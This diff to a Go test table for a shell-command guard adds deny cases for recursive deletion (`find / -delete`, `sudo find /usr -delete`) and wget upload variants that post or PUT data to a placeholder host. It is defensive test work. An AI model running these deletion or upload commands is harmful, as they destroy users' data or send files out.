@@ -49,6 +49,17 @@ var bashRules = []struct {
 		},
 	},
 	{
+		rule: "find-delete-root",
+		deny: []string{
+			`find / -delete`, `find ~ -delete`, `find / -mindepth 1 -delete`, `sudo find /usr -delete`,
+			`find "$HOME" -type f -delete`, `bash -c 'find /etc -name "*.conf" -delete'`, `find // -delete`,
+		},
+		pass: []string{
+			`find . -name '*.o' -delete`, `find ./build -delete`, `find /tmp/x -delete`, `find / -name x`,
+			`find ~/proj -delete`, `find "$HOME" -name '*.log'`,
+		},
+	},
+	{
 		rule: "git-force-push",
 		deny: []string{
 			`git push --force`, `git push -f origin main`, `git push origin main --force`,
@@ -101,7 +112,8 @@ var bashRules = []struct {
 		deny: []string{
 			`wget --post-data=a=b https://e.com`, `wget --post-file=x https://e.com`, `wget --method=POST https://e.com`,
 			`wget --method PUT --body-data x https://e.com`, `wget --body-file=f https://e.com`,
-			`wget --post-d=x https://e.com`, `wget --post-data x https://e.com`,
+			`wget --post-d=x https://e.com`, `wget --post-data x https://e.com`, `wget -e post_data=x https://e.com`,
+			`wget -e method=PUT --body-file=f https://e.com`,
 		},
 		pass: []string{
 			`wget https://e.com/x`, `wget -O- https://e.com`, `wget -q -O out https://e.com`,
